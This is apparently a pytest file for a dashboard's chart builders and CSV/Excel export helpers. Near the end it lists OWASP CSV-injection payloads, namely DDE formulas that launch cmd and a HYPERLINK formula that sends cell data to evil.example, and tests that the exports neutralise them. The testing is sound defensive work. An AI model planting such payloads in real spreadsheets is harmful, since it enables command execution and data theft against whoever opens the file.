"""Pure builders of the pages: figures from frames, exact exports."""

from __future__ import annotations

import csv
import io
import zipfile

import polars as pl
import pytest

from pages.components import charts
from pages.components.formatting import csv_bytes, excel_bytes, yuan

MATRIX = pl.DataFrame(
    {
        "row_key": ["install", "install", "repair"],
        "column_key": ["华东", "华南", "华东"],
        "tickets": [2, 1, 4],
        "revenue_cents": [50_000, 0, 10_000],
        "payout_cents": [30_000, 12_345, 40_000],
    }
)


def test_heatmap_cells_hold_the_measure_and_missing_cells_stay_empty() -> None:
    figure = charts.heatmap_figure(MATRIX, "payout_per_ticket", "category", "group")
    heat = figure.data[0]
    assert list(heat.y) == ["install", "repair"] and list(heat.x) == ["华东", "华南"]
    assert heat.z[0] == pytest.approx([150.0, 123.45])
    assert heat.z[1][0] == pytest.approx(100.0) and heat.z[1][1] is None


def test_province_tiles_place_every_province_at_its_capital() -> None:
    frame = pl.DataFrame(
        {
            "province_code": ["11", "44", "99"],
            "province_name": ["北京市", "广东省", "nowhere"],
            "tickets": [1, 2, 3],
            "revenue_cents": [100, 200, 300],
            "payout_cents": [50, 50, 50],
        }
    )
    tiles = charts.china_tiles(frame, "margin").data[0]
    assert list(tiles.customdata) == ["11", "44"]  # an unknown code gets no tile
    assert list(tiles.x) == [116.4, 113.3] and list(tiles.marker.color) == [0.5, 1.5]


def test_trend_has_one_line_per_segment() -> None:
    trend = pl.DataFrame(
        {
            "period": ["2026-01", "2026-02", "2026-01"],
            "segment": ["in_sale", "in_sale", "after_sale"],
            "tickets": [10, 20, 5],
            "revenue_cents": [100_000, 100_000, 0],
            "payout_cents": [1, 2, 3],
        }
    )
    figure = charts.trend_figure(trend, "scenario")
    lines = {trace.name: list(trace.y) for trace in figure.data}
    assert lines == {"in_sale": [100.0, 50.0], "after_sale": [0.0]}


@pytest.mark.parametrize(
    ("cents", "text"),
    [(0, "¥0.00"), (5, "¥0.05"), (123_456_789, "¥1,234,567.89"), (-150, "-¥1.50")],
)
def test_yuan_is_exact_with_thousands_separators(cents: int, text: str) -> None:
    assert yuan(cents) == text


def test_csv_export_has_a_bom_and_exact_yuan() -> None:
    frame = pl.DataFrame({"城市": ["北京"], "amount_cents": [-123_456_789], "tickets": [3]})
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines() == [
        "城市,tickets,amount_yuan",
        "北京,3,-1234567.89",
    ]


def test_excel_export_holds_the_exact_values() -> None:
    frame = pl.DataFrame({"城市": ["北京", "上海"], "amount_cents": [1050, 7]})
    with zipfile.ZipFile(io.BytesIO(excel_bytes(frame, "城市"))) as book:
        names = book.namelist()
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "xl/worksheets/sheet1.xml" in names
    for text in ("城市", "amount_yuan", "北京", "上海", "10.50", "0.07"):
        assert f">{text}<" in strings


# OWASP's CSV-injection payloads: formulas, DDE calls and hyperlinks, and the tab and carriage
# return that some spreadsheets skip before reading a formula.
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1,=2+2",
]


def spreadsheet_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export_neutralises_every_formula_payload() -> None:
    frame = pl.DataFrame(
        {
            "ticket_id": OWASP_PAYLOADS,
            "value": [p.lower() for p in OWASP_PAYLOADS],
            "amount_cents": [-150] * len(OWASP_PAYLOADS),
            "quantity": [-3] * len(OWASP_PAYLOADS),
        }
    )
    header, *rows = spreadsheet_cells(csv_bytes(frame))
    assert header == ["ticket_id", "value", "quantity", "amount_yuan"]
    for payload, row in zip(OWASP_PAYLOADS, rows, strict=True):
        # Text opens as text: the apostrophe, then the value exactly as it was.
        assert row[0] == "'" + payload and row[1] == "'" + payload.lower()
        # Numbers stay numbers: an integer column and exact yuan are written as they are.
        assert row[2] == "-3" and row[3] == "-1.50"


def test_csv_export_leaves_ordinary_text_and_plain_numbers_alone() -> None:
    frame = pl.DataFrame(
        {
            "value": ["T00042", "北京", "a=b", " =1", "-5", "+12.50", "-", "@", None],
            "kind": pl.Series(["x", "=y", "z", "x", "x", "x", "x", "x", "x"], dtype=pl.Categorical),
        }
    )
    _, *rows = spreadsheet_cells(csv_bytes(frame))
    assert [row[0] for row in rows] == [
        "T00042", "北京", "a=b", " =1", "-5", "+12.50", "'-", "'@", "",
    ]  # fmt: skip
    assert [row[1] for row in rows][:2] == ["x", "'=y"]


def test_csv_headers_are_neutralised_too() -> None:
    header, _ = spreadsheet_cells(csv_bytes(pl.DataFrame({"=1+1": ["a"]})))
    assert header == ["'=1+1"]


def test_a_ticket_whose_id_is_a_formula_is_text_in_both_exports() -> None:
    frame = pl.DataFrame({"ticket_id": ["=1+1"], "amount_cents": [100]})
    _, row = spreadsheet_cells(csv_bytes(frame))
    assert row == ["'=1+1", "1.00"]
    with zipfile.ZipFile(io.BytesIO(excel_bytes(frame))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet  # the Excel writer stores it as a string, never a formula
    assert ">=1+1<" in strings
